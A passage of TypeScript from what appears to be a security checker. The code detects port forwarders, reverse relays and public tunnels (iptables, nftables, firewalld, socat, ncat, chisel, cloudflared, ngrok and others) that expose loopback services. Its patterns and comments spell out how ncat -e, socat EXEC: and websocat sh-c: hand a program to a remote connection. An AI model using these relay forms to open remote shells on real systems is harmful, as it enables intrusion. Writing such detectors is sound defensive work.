            obj(listener).address,
            ...list(obj(listener).additional_addresses).map(a => obj(a).address),
        ].flatMap(a => envoySocket(a) ?? []);
        const via = `Envoy listener ${String(obj(listener).name ?? "")} to cluster`;
        for (const cluster of clusters.filter(c => clientChosen || named.length === 0 || named.includes(c.name))) {
            for (const end of cluster.ends) {
                const to = loopbackEnd(end);
                if (to) out.push({ forwarder: `${via} ${cluster.name} (${end})`, listens, to });
            }
            if (cluster.unread)
                out.push({ forwarder: `${via} ${cluster.name} (EDS endpoints the pack cannot read)`, listens, to: {} });
        }
    }
    return out;
}

/**
 * Forwarders of configurations in YAML, JSON or TOML (each document read as the one the text parses as):
 * - Envoy's bootstrap (Envoy docs, "Configuration: Static": `static_resources` listeners and clusters: envoyForwarders;
 *   with its `dynamic_resources` and EDS sources it is read with the command that names it, envoyBootstrapForwarders);
 * - Traefik (Traefik docs, "EntryPoints": `address: ":80"`, part of the static configuration; "File" provider:
 *   http `services.NAME.loadBalancer.servers[].url`, tcp `...servers[].address`; v1 `backends.NAME.servers.NAME.url`):
 *   each server is reached from the entry points the same file opens, from every address when it opens none (a file
 *   provider's dynamic file is routed to from entry points the pack does not join to it).
 */
function structuredForwarders(text: string): Forwarder[] {
    if (!/static_resources|loadBalancer|backends/.test(text)) return [];
    const out: Forwarder[] = [];
    for (const doc of structuredDocs(text)) {
        const resources = obj(obj(doc).static_resources);
        out.push(...envoyForwarders(list(resources.listeners), list(resources.clusters)));
        const entryPoints = Object.values(obj(obj(doc).entryPoints)).flatMap(e => {
            const address = obj(e).address;
            return typeof address === "string" ? [address.replace(/\/(tcp|udp)$/i, "")] : [];
        });
        const servers = [
            ...["http", "tcp"].flatMap(kind =>
                Object.values(obj(obj(obj(doc)[kind]).services)).flatMap(service =>
                    list(obj(obj(service).loadBalancer).servers).map(
                        server => obj(server)[kind === "http" ? "url" : "address"],
                    ),
                ),
            ),
            ...Object.values(obj(obj(doc).backends)).flatMap(backend =>
                Object.values(obj(obj(backend).servers)).map(server => obj(server).url),
            ),
        ].filter((v): v is string => typeof v === "string");
        for (const server of servers) {
            const to = loopbackEnd(server);
            if (to) out.push({ forwarder: `Traefik server ${server}`, listens: entryPoints, to });
        }
    }
    return out;
}

/**
 * firewalld forward ports to an address (firewall-cmd(1) "--add-forward-port=port=portid[-portid]:proto=protocol
 * [:toport=portid[-portid]][:toaddr=address[/mask]]"; the rich language's and a zone file's `forward-port port="..."
 * protocol="..." to-port="..." to-addr="..."`: firewalld.richlanguage(5), firewalld.zone(5)): DNAT, as iptablesForwarder
 * reads, on every address of the zone's interfaces. Without an address the port is forwarded on the instance itself,
 * to the address the packet came to (REDIRECT's case: nothing bound to loopback is exposed).
 */
function firewalldForwarders(text: string): Forwarder[] {
    const specs = [
        ...[...text.matchAll(/--add-forward-port[= ](\S+)/g)].map(m =>
            m[1].split(/:(?=(?:port|proto|toport|toaddr)=)/).map(kv => kv.split(/=(.*)/s).slice(0, 2)),
        ),
        ...[...text.matchAll(/\bforward-port\b([^>\n]*)/g)].map(m =>
            [...m[1].matchAll(/\b(port|to-port|to-addr)\s*=\s*["']?([^"'\s/>]+)/g)].map(kv => [kv[1], kv[2]]),
        ),
    ].map(kvs => new Map(kvs.map(([k, v]) => [k.replace("-", ""), v ?? ""])));
    return specs.flatMap(spec => {
        const [port, toport, toaddr] = [spec.get("port"), spec.get("toport") ?? spec.get("port"), spec.get("toaddr")];
        if (toaddr === undefined || port === undefined) return [];
        const to = /-/.test(toport ?? "") ? loopbackEnd(toaddr) && {} : relayEnd(toaddr, toport);
        const listens = [/^\d+$/.test(port) ? `0.0.0.0:${port}` : "0.0.0.0"];
        return to
            ? [{ forwarder: `firewalld forward-port ${[...spec].map(kv => kv.join("=")).join(":")}`, listens, to }]
            : [];
    });
}

/**
 * An iptables rule that sends packets arriving from the network to this instance's loopback: nat table, DNAT
 * --to-destination a loopback address in any chain but OUTPUT (iptables-extensions(8) DNAT; packets routed to
 * 127.0.0.0/8 from another interface need net.ipv4.conf.*.route_localnet=1, which kube-proxy itself sets on nodes and
 * any script may, so it is not required here). Its port is the rule's own, else the packet's --dport. REDIRECT
 * rewrites to "the primary address of the incoming interface" (iptables-extensions(8) REDIRECT; loopback only for
 * locally-generated packets), which a loopback-bound server does not accept: it exposes nothing bound to loopback.
 */
function iptablesForwarder(words: readonly string[]): Forwarder[] {
    const value = (...names: string[]) => {
        const i = words.findIndex(w => names.includes(w));
        const glued = words.find(w => names.some(n => n.startsWith("--") && w.startsWith(`${n}=`)));
        return i >= 0 ? words[i + 1] : glued?.slice(glued.indexOf("=") + 1);
    };
    if (value("-t", "--table") !== "nat" || value("-j", "--jump") !== "DNAT") return [];
    if (value("-A", "--append", "-I", "--insert", "-R", "--replace") === "OUTPUT") return [];
    const destination = value("--to-destination", "--to") ?? "";
    const dport = value("--dport", "--destination-port");
    const address =
        /:\d+$/.test(destination) || dport === undefined || !/^\d+$/.test(dport)
            ? destination
            : `${destination}:${dport}`;
    const to = /:\d+-\d+$/.test(destination)
        ? loopbackEnd(destination.replace(/:\d+-\d+$/, "")) && {}
        : loopbackEnd(address);
    const listens = [value("-d", "--destination", "--dst") ?? "0.0.0.0"].map(d => (dport ? `${d}:${dport}` : d));
    return to ? [{ forwarder: `iptables ${words.join(" ")}`, listens, to }] : [];
}

/**
 * An nftables DNAT rule to a loopback address, as iptablesForwarder: `dnat [ip|ip6] to ADDRESS[:PORT]` (nft(8) "NAT
 * statements"), or through a map (nftables wiki "Maps": `dnat to tcp dport map { 80 : 192.168.1.100, 8888 :
 * 192.168.1.101 }`, a concatenation `ADDR . PORT` on either side: one DNAT per element, its key the packet's daddr or
 * dport). A named map (`map @NAME`) or one this line does not close holds elements the pack does not read: an end it
 * cannot tell.
 */
function nftForwarders(rule: string): Forwarder[] {
    const m = /\bdnat\s+(?:ip6?\s+)?to\s+(?:(.*?)\s*\bmap\s+(@\S+|\{[^}]*\}?)|([^\s;]+))/.exec(rule);
    if (!m) return [];
    const match = rule.slice(0, m.index);
    const daddr = /\bdaddr\s+([^\s;.]+)/.exec(match)?.[1] ?? "0.0.0.0";
    const dport = /\bdport\s+(\d+)\b/.exec(match)?.[1];
    const forwarder = (listen: { daddr: string; dport?: string }, to: LoopbackEnd | undefined): Forwarder[] =>
        to
            ? [
                  {
                      forwarder: `nftables ${rule.trim()}`,
                      listens: [listen.dport ? `${listen.daddr}:${listen.dport}` : listen.daddr],
                      to,
                  },
              ]
            : [];
    if (m[3] !== undefined)
        return forwarder(
            { daddr, dport },
            loopbackEnd(/:\d+$/.test(m[3]) || dport === undefined ? m[3] : `${m[3]}:${dport}`),
        );
    if (!/^\{[^}]*\}$/.test(m[2])) return forwarder({ daddr, dport }, {});
    const keys = m[1].split(/\s+\.\s+/);
    return m[2]
        .slice(1, -1)
        .split(",")
        .filter(element => element.trim() !== "")
        .flatMap(element => {
            const e = /^\s*(\S+(?:\s+\.\s+\S+)*)\s*:\s*(.+?)\s*$/.exec(element);
            if (!e) return forwarder({ daddr, dport }, {});
            const [, key, value] = e;
            const listen = { daddr, dport };
            key.split(/\s+\.\s+/).forEach((k, i) => {
                if (/\bdaddr$/.test(keys[i] ?? "")) listen.daddr = k;
                if (/\bdport$/.test(keys[i] ?? "") && /^\d+$/.test(k)) listen.dport = k;
            });
            const [address, port = listen.dport] = value.split(/\s+\.\s+/);
            return forwarder(listen, relayEnd(address, port));
        });
}

/**
 * Where a relay that dials out is listened on: its far end (ssh -R's destination, socat's or ncat's connecting
 * address, a tunnel service), another host's, whoever holds it reaching the relay's end here; a far end on this
 * instance's loopback is a local port, one the pack cannot read (a variable) an end beyond loopback, failing closed.
 */
function dialledOut(far: string): string[] {
    if (loopbackOnly([far])) return [far];
    return loopbackEnd(far) === undefined ? [`${far} (another host)`] : [`${far} (an end the pack cannot read)`];
}

/** socat's network addresses that connect out (socat(1) "ADDRESS TYPES"), through a SOCKS or HTTP proxy too. */
const SOCAT_CONNECT =
    /^(tcp[46]?|tcp[46]?-connect|udp[46]?|udp[46]?-(connect|sendto)|sctp[46]?-connect|dccp[46]?-connect|openssl|ssl|openssl-connect|openssl-dtls-client|socks4a?|socks5|socks5-connect|proxy|proxy-connect):([^,]*)/i;
/** A SOCKS or HTTP-proxy address's target (`SOCKS4:proxy:host:port`, `PROXY:proxy:host:port`): its far end. */
const socatFar = (address: string) => {
    const m = SOCAT_CONNECT.exec(address);
    if (!m) return undefined;
    return /^(socks|proxy)/i.test(m[1]) ? m[3].split(":").slice(1).join(":") || m[3] : m[3];
};

/**
 * Whether a Go program's boolean flag is on, as Go's flag package reads it (pkg.go.dev/flag: "One or two minus signs
 * may be used; they are equivalent"; "-flag", "-flag=x" where x is what strconv.ParseBool accepts: "1, t, T, TRUE,
 * true, True" on, "0, f, F, FALSE, false, False" off; a boolean takes no next word) and spf13/pflag (cobra) alike
 * for `--flag[=x]`. The last one given counts; a value ParseBool would not read as off (a variable) is on (fail closed).
 */
function goBoolFlag(args: readonly string[], flag: string): boolean {
    let on = false;
    for (const w of args) {
        if (w === "--") break;
        const m = /^--?([^=]+)(?:=([\s\S]*))?$/.exec(w);
        if (m?.[1] === flag) on = m[2] === undefined || !/^(0|f|F|false|FALSE|False)$/.test(m[2]);
    }
    return on;
}
/** Go-style single-dash long options (`-auth`, Go's flag package; urfave/cli alike) as `--auth`. */
const goFlags = (args: readonly string[]) => args.map(w => (/^-[a-z][a-z-]+(=|$)/i.test(w) ? `-${w}` : w));
/** chisel server's options taking a value (`chisel server --help`). */
const CHISEL_SERVER_VALUES = [
    "host",
    "port",
    "key",
    "keygen",
    "keyfile",
    "authfile",
    "auth",
    "keepalive",
    "backend",
    "tls-key",
    "tls-cert",
    "tls-domain",
    "tls-ca",
];
/** chisel client's options taking a value (`chisel client --help`). */
const CHISEL_CLIENT_VALUES = [
    "fingerprint",
    "auth",
    "keepalive",
    "max-retry-count",
    "max-retry-interval",
    "proxy",
    "header",
    "hostname",
    "sni",
    "tls-ca",
    "tls-cert",
    "tls-key",
];
/**
 * cloudflared subcommands that run no tunnel (`access` a client listening on its --url; tunnel management). The legacy
 * `cloudflared --url URL` runs a quick tunnel as `cloudflared tunnel --url URL` does.
 */
const CLOUDFLARED_NOT_RUNNING =
    /^(access|login|create|list|delete|route|cleanup|token|info|ingress|vnet|diag|update|uninstall|version)$/;
/** cloudflared's default configuration files (Cloudflare docs, "Configuration file": "~/.cloudflared/, /etc/cloudflared, /usr/local/etc/cloudflared"). */
const CLOUDFLARED_CONFIGS = [
    "/etc/cloudflared/config.yml",
    "/usr/local/etc/cloudflared/config.yml",
    "/root/.cloudflared/config.yml",
];

/**
 * What a relay that dials out joins to its far end (dialledOutForwarders, shellsHandedOut): socat with two connecting
 * addresses and no listening one, the other address a loopback end (`address`) or an EXEC:/SYSTEM:/SHELL: program
 * (socat(1) "ADDRESS TYPES": EXEC "Forks a sub process ... and invokes the specified program"); ncat/nc connecting with
 * -e/--exec, -c/--sh-exec or --lua-exec (Ncat Users' Guide, "Command Execution": the program's standard input and
 * output are the connection in connect mode too), `program` null for a Lua script (unread). A far end on this
 * instance's loopback with a port or socket is a local client of the two, none; undefined for any other command.
 */
function dialledOutPeers(
    name: string,
    args: readonly string[],
): { far: string; program?: string | null; address?: string }[] | undefined {
    if (name === "socat") {
        const addresses = args.filter(w => !w.startsWith("-") || w === "-").slice(-2);
        if (addresses.length !== 2 || addresses.some(a => SOCAT_LISTENER.test(a) || /^unix-(listen|recv)/i.test(a)))
            return undefined;
        return addresses.flatMap((a, i) => {
            const far = socatFar(a);
            if (far === undefined) return [];
            const end = loopbackEnd(far);
            if (end && (end.port !== undefined || end.socket !== undefined)) return [];
            const other = addresses[1 - i];
            const exec = /^(exec|system|shell):(.*)$/i.exec(other);
            return [exec ? { far, program: exec[2].split(/(?<!\\),/)[0] } : { far, address: other }];
        });
    }
    // websocat README: `sh-c:CMDLINE` (`cmd:` on Unix) and `exec:PROGRAM` (--exec-args ...) connect a command's stdio to
    // the other specifier; with a client one (ws://, wss://, tcp:HOST:PORT ...) and no listening one (-s, ws-l:,
    // tcp-l:, l-ws: ...), the command serves the far end.
    if (name === "websocat") {
        const specs = args.filter(
            (w, i) =>
                !w.startsWith("-") && !/^--(exec-args|protocol|header|origin|[\w-]*-file)$/.test(args[i - 1] ?? ""),
        );
        const program = specs.find(w => /^(sh-c|cmd|exec):/i.test(w));
        const far = specs.find(w => w !== program);
        if (
            program === undefined ||
            far === undefined ||
            args.some(w => /^(-s|--server-mode)$/.test(w)) ||
            specs.some(w => /^([\w-]*-l(isten)?|l-[\w-]+|listen-[\w-]+|[\w-]*-listen):/i.test(w))
        )
            return undefined;
        const exec = args.indexOf("--exec-args");
        const command = program.replace(/^[^:]*:/, "");
        const end = loopbackEnd(far.replace(/^(tcp|ws|wss|tls|ssl)[\w-]*:(?!\/\/)/i, ""));
        if (end && (end.port !== undefined || end.socket !== undefined)) return [];
        return [{ far, program: exec >= 0 ? [command, ...args.slice(exec + 1)].join(" ") : command }];
    }
    if (/^(ncat|nc|netcat)$/.test(name)) {
        const { listen, values, hosts } = ncatCommand(args);
        const programs = values.filter(([k]) => /^(-e|--exec|-c|--sh-exec|--lua-exec)$/.test(k));
        if (listen || programs.length === 0) return undefined;
        const port = args.filter(w => /^\d+$/.test(w)).at(-1);
        const far = `${hosts[0] ?? ""}${port === undefined ? "" : `:${port}`}`;
        return programs.map(([k, v]) => ({ far, program: k === "--lua-exec" ? null : v }));
    }
    return undefined;
}

/**
 * Relays that dial out and hand an end on this instance to whoever holds their far end, read as ssh -R is (the target
 * resolved here, the listener another host's: dialledOut). An end the pack cannot read (a variable, a program's
 * script, a tunnel whose routes live in a configuration it does not read or in the tunnel service) is any loopback
 * end (`{}`), failing closed:
 * - socat with two connecting addresses and no listening one (socat(1) "DESCRIPTION": it "establishes two
 *   bidirectional byte streams and transfers data between them"; `forever`/`retry` redial): one beyond loopback is the
 *   far end of the other, a loopback port or socket (socatEnd) or an EXEC:/SYSTEM:/SHELL: program's (servedRelays);
 * - ncat/nc connecting with -e/--exec, -c/--sh-exec or --lua-exec (Ncat Users' Guide, "Command Execution": the
 *   program's standard input and output are the connection in connect mode too), its program's ends (servedRelays;
 *   a Lua script's, unread);
 * - `chisel client SERVER R:...` (chisel README, "Usage": `R:<local-interface>:<local-port>:<remote-host>:<remote-port>`
 *   "does reverse port forwarding, sharing <remote-host>:<remote-port> from the client to the server's
 *   <local-interface>:<local-port>"; remote-host defaults to the client's localhost; `R:socks` a SOCKS server on the
 *   server reaching everything the client does);
 * - `cloudflared tunnel --url URL` / `--unix-socket PATH` (Cloudflare docs, "Quick Tunnels": "cloudflared tunnel --url
 *   http://localhost:8080" proxies a random trycloudflare.com subdomain, public, to it), a named tunnel's ingress
 *   `service:`s (Cloudflare docs, "Configuration file": `ingress:` rules, `--config`, the default paths
 *   CLOUDFLARED_CONFIGS), or, run by token or configuration the pack does not read, any end; `cloudflared access` is a
 *   client listening on its --url, not a tunnel;
 * - `ngrok http|tcp|tls ADDR` (ngrok docs, "Agent CLI": "ngrok http 80" forwards a public endpoint to localhost:80; an
 *   address or URL for another) and `ngrok start` (its configuration's tunnels: unread);
 * - `bore local PORT --to SERVER` (ekzhang/bore README: "bore local <LOCAL_PORT> --to <TO>", --local-host localhost by
 *   default), and frpc (fatedier/frp: proxies of a configuration to frps's ports: unread).
 */
function dialledOutForwarders(
    name: string,
    args: readonly string[],
    line: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] | undefined {
    const relay = (far: string, ends: readonly (LoopbackEnd | undefined)[]): Forwarder[] =>
        ends.flatMap(to => (to ? [{ forwarder: line, listens: dialledOut(far), to }] : []));
    const peers = dialledOutPeers(name, args);
    if (peers)
        return peers.flatMap(({ far, program, address }) =>
            relay(
                far,
                program === null
                    ? [{}]
                    : program !== undefined
                      ? servedRelays(program, fileText, view)
                      : [socatEnd(address ?? "")],
            ),
        );
    if (name === "chisel" && args[0] === "client") {
        // Go's flag package takes `-name` as `--name`.
        const { operands } = getopt(goFlags(args.slice(1)), "", CHISEL_CLIENT_VALUES);
        const [server = "", ...remotes] = operands.filter(o => !/^-/.test(o));
        const serverHost = addressHost(server);
        return remotes
            .filter(r => /^R:/i.test(r))
            .flatMap(r => {
                const parts = (r.slice(2).match(/\[[^\]]*\]|[^:]+/g) ?? []).map(p => p.replace(/\/(tcp|udp)$/, ""));
                const last = parts.at(-1) ?? "";
                const remote =
                    last === "socks" || !/^\d+$/.test(last)
                        ? { end: {}, local: parts.slice(0, -1) }
                        : parts.length >= 2 && !/^\d+$/.test(parts.at(-2)!)
                          ? { end: relayEnd(parts.at(-2)!, last), local: parts.slice(0, -2) }
                          : { end: relayEnd("127.0.0.1", last), local: parts.slice(0, -1) };
                const listens = loopbackOnly([serverHost])
                    ? [`${remote.local.length > 1 ? remote.local[0] : "0.0.0.0"}:${remote.local.at(-1) ?? last}`]
                    : dialledOut(server);
                return remote.end ? [{ forwarder: line, listens, to: remote.end }] : [];
            });
    }
    if (name === "cloudflared") args = goFlags(args);
    if (
        name === "cloudflared" &&
        (args.includes("tunnel") ||
            (args.includes("service") && args.includes("install")) ||
            longValues(args, /^url$/).length > 0) &&
        // A subcommand word, not an option's value (`--loglevel info`).
        !args.some((a, i) => CLOUDFLARED_NOT_RUNNING.test(a) && !/^--?[a-z-]+$/i.test(args[i - 1] ?? ""))
    ) {
        const given = [...longValues(args, /^url$/), ...longValues(args, /^unix-socket$/).map(s => `unix:${s}`)];
        if (given.length > 0 || args.includes("--hello-world"))
            return relay(
                "a Cloudflare tunnel's public hostname",
                given.map(u => loopbackEnd(u)),
            );
        const configs = longValues(args, /^config$/);
        const texts = (configs.length > 0 ? configs : CLOUDFLARED_CONFIGS).map(p => readConfig(p, fileText, view));
        const read = texts.filter((t): t is string => typeof t === "string");
        const unread = read.length === 0 || texts.includes(null) || args.some(a => /^--token(=|$)/.test(a));
        const services = read.flatMap(t =>
            structuredDocs(t).flatMap(doc => [
                ...(typeof obj(doc).url === "string" ? [obj(doc).url as string] : []),
                ...list(obj(doc).ingress).map(rule => String(obj(rule).service ?? "")),
            ]),
        );
        return relay("a Cloudflare tunnel's hostname", [
            ...services
                .filter(s => !/^(http_status:|hello_world$)/.test(s))
                .map(s => (/^bastion$|^socks/.test(s) ? {} : loopbackEnd(s))),
            ...(unread ? [{}] : []),
        ]);
    }
    if (name === "ngrok") {
        const { operands } = getopt(args, "", [
            "authtoken",
            "config",
            "region",
            "log",
            "log-level",
            "log-format",
            "url",
            "domain",
            "hostname",
            "subdomain",
            "basic-auth",
            "oauth",
            "cidr-allow",
            "cidr-deny",
            "remote-addr",
            "traffic-policy-file",
            "host-header",
            "proto",
            "scheme",
            "label",
            "metadata",
            "name",
        ]);
        const [mode, target] = operands;
        if (mode === "start") return relay("ngrok's public endpoint", [{}]);
        if (!/^(http|tcp|tls)$/.test(mode ?? "") || target === undefined) return undefined;
        return relay("ngrok's public endpoint", [loopbackEnd(/^\d+$/.test(target) ? `localhost:${target}` : target)]);
    }
    if (name === "bore" && args[0] === "local") {
        const { options, operands } = getopt(args.slice(1), "tlps", ["to", "local-host", "port", "secret"]);
        const host = optionValues(options, "-l", "--local-host").at(-1) ?? "localhost";
        return relay(optionValues(options, "-t", "--to").at(-1) ?? "bore.pub", [relayEnd(host, operands[0])]);
    }
    if (name === "frpc") return relay("frps, the frp server", [{}]);
    return unreadRelays(name, args, line, fileText, view);
}

/**
 * Public tunnel services a program hands a local port to without naming their host (localtunnel README, `lt --port
 * 8000`: "your url is: https://....loca.lt"; Tailscale docs, "tailscale funnel command": "share a local service over
 * the internet", `tailscale serve` the same to every tailnet member): `far` their far end, `off` the operands that stop
 * or show a relay rather than start one.
 */
const TUNNEL_SERVICES: { names: RegExp; commands?: RegExp; far: string; off?: RegExp }[] = [
    { names: /^(lt|localtunnel)$/, far: "localtunnel's public URL (loca.lt)" },
    // zrok docs, "zrok share public": "share a local resource (e.g. localhost:8080) publicly" at a share URL; `share
    // private` to any zrok account holding the share token, `share reserved` a reserved share's target (unread: any).
    { names: /^zrok$/, commands: /^share$/, far: "a zrok share's URL" },
    // PageKite quickstart: `pagekite.py 80 yourname.pagekite.me` makes the local port public at that name.
    { names: /^pagekite(\.py)?$/, far: "a PageKite public name (pagekite.me)" },
    // agrinman/tunnelto README: `tunnelto --port 8000` "expose your local web server to the internet with a public URL".
    { names: /^tunnelto$/, far: "tunnelto's public URL (tunnelto.dev)", off: /^(set-auth|--help|-h|--version|-V)$/ },
    {
        names: /^tailscale$/,
        commands: /^(funnel|serve)$/,
        far: "Tailscale Funnel's public URL or the tailnet",
        off: /^(off|reset|status|--help|-h)$/,
    },
    // LocalXpose docs: `loclx tunnel http --to 127.0.0.1:8000` gives a public https://*.loclx.io URL.
    { names: /^loclx$/, commands: /^tunnel$/, far: "a LocalXpose public URL (loclx.io)" },
    // beyondcode/expose docs: `expose share http://localhost:8000 --subdomain=...` publishes the site on the Expose
    // server's public URL.
    { names: /^expose$/, commands: /^share(-cwd)?$/, far: "an Expose server's public URL" },
    // Microsoft Learn, "Dev tunnels CLI command reference": `devtunnel host -p 8000 [--allow-anonymous]` makes the port
    // reachable at the tunnel's URL (without -p, the ports the tunnel was created with: unread).
    { names: /^devtunnel$/, commands: /^host$/, far: "a Microsoft dev tunnel's URL (devtunnels.ms)" },
    // tunnelmole README: `tmole 8000` "prints a public https URL forwarding to localhost:8000".
    { names: /^tmole$/, far: "tunnelmole's public URL", off: /^(-h|--help|-V|--version|--set-api-key)$/ },
    // Packetriot docs: `pktriot http 8080` (tcp, https alike) gives the local port a public hostname; `pktriot start`
    // runs the tunnels its configuration holds (unread: any end).
    {
        names: /^pktriot$/,
        far: "a Packetriot public hostname",
        off: /^(-h|--help|version|info|configure|edit|route|domain|help)$/,
    },
    // NPS (ehang-io/nps): `npc -server=HOST:PORT -vkey=KEY` runs the tunnels the server's web UI configures for the
    // client, their node-local targets included: the far side picks them (any end, failing closed).
    {
        names: /^npc$/,
        far: "the NPS server's tunnels (targets chosen on the server)",
        off: /^(-h|--help|-version|--version|stop|uninstall|status)$/,
    },
];
/**
 * A subcommand or flag saying a program the pack does not read hands something out through a tunnel service (`X
 * tunnel http --to ...`, `X share URL`, `X host -p PORT`, `--public`): with an end on this instance it names, read as a
 * TUNNEL_SERVICES one (round 60: the list of tunnel services does not end either).
 */
const TUNNEL_WORDS = /^(tunnel|share|expose|host|publish|--share|--expose|--public|--tunnel)$/;
/** Programs commandForwarders and dialledOutForwarders read themselves (their relays are theirs, not unreadRelays'). */
const READ_RELAYS =
    /^(socat|ssh|autossh|dbclient|gost|caddy|systemd-socket-proxyd|3proxy|ip6?tables(-legacy|-nft)?|nft|firewall-(offline-)?cmd|envoy|pen|balance|ncat|nc|netcat|chisel|cloudflared|ngrok|bore|frpc)$/;
/** An end on this instance a word names: a loopback host with a port (`tcp:127.0.0.1:8000`, `ws://localhost:80/`), a socket. */
function namedLocalEnd(word: string): LoopbackEnd | undefined {
    const w = word.replace(/^--?[\w.-]+=/, "").replace(/^["']|["']$/g, "");
    for (const candidate of [w, w.replace(/^[a-z][\w-]*:(?!\/\/)/i, "")]) {
        // A socket by its scheme or its name (a bare path is as often a file or directory).
        const socket = /^(unix:(?:\/\/)?)?(\/[^\s,;]+)$/.exec(candidate);
        if (socket) {
            if (socket[1] !== undefined || /\.sock(et)?$/.test(socket[2]))
                return { socket: posix.normalize(socket[2]) };
            continue;
        }
        const host = addressHost(candidate);
        if (host === "" || host.startsWith("/") || !loopbackOnly([host])) continue;
        const end = loopbackEnd(candidate);
        if (end?.port !== undefined) return end;
    }
    return undefined;
}
/** Another host a word names as an endpoint (a URL's host or HOST:PORT: a DNS name or an address not the node's loopback). */
function namedOtherHost(word: string): string | undefined {
    const w = word.replace(/^--?[\w.-]+=/, "").replace(/^["']|["']$/g, "");
    for (const candidate of [w, w.replace(/^[a-z][\w-]*:(?!\/\/)/i, "")]) {
        const url = /^[a-z][\w+.-]*:\/\//i.test(candidate);
        const hostPort = /^(\[[^\]]*\]|[^\s:/@=[\]]+):\d+(\/.*)?$/.test(candidate);
        if (!url && !hostPort) continue;
        const host = addressHost(candidate);
        if (host === "" || host.startsWith("/") || loopbackOnly([host]) || connectsToThisHost(host)) continue;
        if (OTHER_HOST_NAME.test(host) || ipAddress(host.replace(/^\[|\]$/g, "")) !== undefined) return candidate;
    }
    return undefined;
}

/**
 * A relay the pack has no reader for, failing closed (round 57: websocat, rathole, localtunnel, tailscale funnel were
 * the round-56 relays' kind under other names; the list of tunnel programs does not end): a root program that is none
 * of the relays read above (READ_RELAYS), no server the pack reads (SERVERS) and no known client (KNOWN_CLIENTS,
 * NOT_UNREAD_SERVERS), whose words or the configuration files it is handed that user data wrote (readConfig; a
 * TOML/YAML/INI file's values: rathole's client.toml `remote_addr`/`local_addr`) name both an end on this instance
 * (namedLocalEnd, a forward's `[scheme://][bind:]port:host:hostport` (forwardSpecEnd), or a `--port`/`--ports`/
 * `--local-port` value, of the `--upstream` host when one is given apart) and another host (namedOtherHost) or is a
 * public tunnel service (TUNNEL_SERVICES: its bare port operands too, none read any end; or, round 60, a program whose
 * subcommand or flags say it tunnels, TUNNEL_WORDS, once it names an end, `-p` too): it relays the one to the other, as
 * ssh -R does.
 */
function unreadRelays(
    name: string,
    args: readonly string[],
    line: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] | undefined {
    if (READ_RELAYS.test(name) || NOT_UNREAD_SERVERS.test(name) || knownClient(name, args)) return undefined;
    const tunnel = TUNNEL_SERVICES.find(
        t =>
            t.names.test(name) &&
            (t.commands === undefined || t.commands.test(args.find(w => !w.startsWith("-")) ?? "")),
    );
    if (tunnel?.off && args.some(w => tunnel.off!.test(w))) return undefined;
    if (!tunnel && SERVERS.some(s => s.names.test(name) && !s.partial)) return undefined;
    // A program whose subcommand or flags say it tunnels (TUNNEL_WORDS), read as a tunnel service once it names an end.
    const tunnelish =
        tunnel !== undefined ||
        TUNNEL_WORDS.test(args.find(w => !w.startsWith("-")) ?? "") ||
        args.some(w => TUNNEL_WORDS.test(w.replace(/=.*$/, "")) && w.startsWith("--"));
    const words = [...clientWords(name, args)];
    const texts = words
        .filter(w => w.startsWith("/"))
        .map(w => readConfig(posix.normalize(w), fileText, view))
        .filter((t): t is string => typeof t === "string");
    const configWords = texts.flatMap(t => t.split(/[\s"'=,]+/).filter(w => w !== "" && !/^[#;]/.test(w)));
    const all = [...words, ...configWords];
    // An upstream host given apart from its ports (inlets docs: `inlets-pro tcp client --url wss://... --upstream
    // 127.0.0.1 --ports 8000`, the server's public ports relayed to the upstream's): the ports are that host's.
    const upstream = words.flatMap((w, i) => {
        const option = /^--?(upstream|local[-_]?host|target[-_]?host|to[-_]?host)(?:=(.*))?$/i.exec(w);
        const value = option ? (option[2] ?? words[i + 1]) : undefined;
        return value !== undefined && !/:\d+/.test(value) ? [value] : [];
    });
    const portHost = upstream.find(h => !loopbackOnly([h])) ?? "127.0.0.1";
    // Where the program itself listens (`--listen localhost:8443`, `--bind=127.0.0.1:8080`: ghostunnel client, stunnel
    // `accept`): a loopback listener only the node's processes reach, relayed to the far side, not from it.
    const ownListen = (w: string, i: number) =>
        /^--?(listen|bind|accept)(-addr(ess)?)?=/.test(w) ||
        /^--?(listen|bind|accept)(-addr(ess)?)?$/.test(words[i - 1] ?? "");
    const ends: LoopbackEnd[] = [
        ...words.flatMap((w, i) => (ownListen(w, i) ? [] : (namedLocalEnd(w) ?? []))),
        ...configWords.flatMap(w => namedLocalEnd(w) ?? []),
        // A forward's `[scheme://][bind:]port:host:hostport` (wstunnel README, "wstunnel client -R
        // tcp://[::]:8080:localhost:8000 wss://server": the server listens, the client dials localhost:8000; chisel's
        // R:), but for a local forward (-L: the far side dials it).
        ...words.flatMap((w, i) =>
            /^(-L|--local(-to-remote)?)$/.test(words[i - 1] ?? "") ? [] : (forwardSpecEnd(w) ?? []),
        ),
        ...words.flatMap((w, i) => {
            const option = /^(--?(?:local[-_]?)?ports?|-p)(?:=([\d,]+))?$/i.exec(w);
            if (!option || (option[1] === "-p" && !tunnelish)) return [];
            const value = option[2] ?? words[i + 1] ?? "";
            return /^\d+(,\d+)*$/.test(value) ? value.split(",").flatMap(p => relayEnd(portHost, p) ?? []) : [];
        }),
        ...(tunnel
            ? words.flatMap((w, i) => (/^\d+$/.test(w) && !/^-/.test(words[i - 1] ?? "") ? [{ port: Number(w) }] : []))
            : []),
    ];
    const far =
        tunnel?.far ??
        all.map(w => namedOtherHost(w)).find(h => h !== undefined) ??
        (tunnelish && ends.length > 0 ? `${name}'s tunnel service` : undefined);
    if (far === undefined) return undefined;
    if (ends.length === 0 && !tunnel) return undefined;
    return (ends.length > 0 ? ends : [{}]).map(to => ({
        forwarder: `${line} (a relay the pack does not read)`,
        listens: tunnel ? [`${far} (another host)`] : dialledOut(far),
        to,
    }));
}

/** The end on this instance of a forward specification `[scheme://][bind:]port:host:hostport` (ssh -R's form). */
function forwardSpecEnd(word: string): LoopbackEnd | undefined {
    const spec = word
        .replace(/^--?[\w.-]+=/, "")
        .replace(/^["']|["']$/g, "")
        .replace(/^[a-z][\w+.-]*:\/\//i, "")
        .replace(/^R:/, "");
    const parts = spec.match(/\[[^\]]*\]|[^:]+/g) ?? [];
    if (parts.length < 3 || !/^\d+$/.test(parts.at(-1)!) || !/^\d+$/.test(parts.at(-3)!) || /^\d+$/.test(parts.at(-2)!))
        return undefined;
    return relayEnd(parts.at(-2)!.replace(/^\[|\]$/g, ""), parts.at(-1));
}

/**
 * Forwarders a command starts:
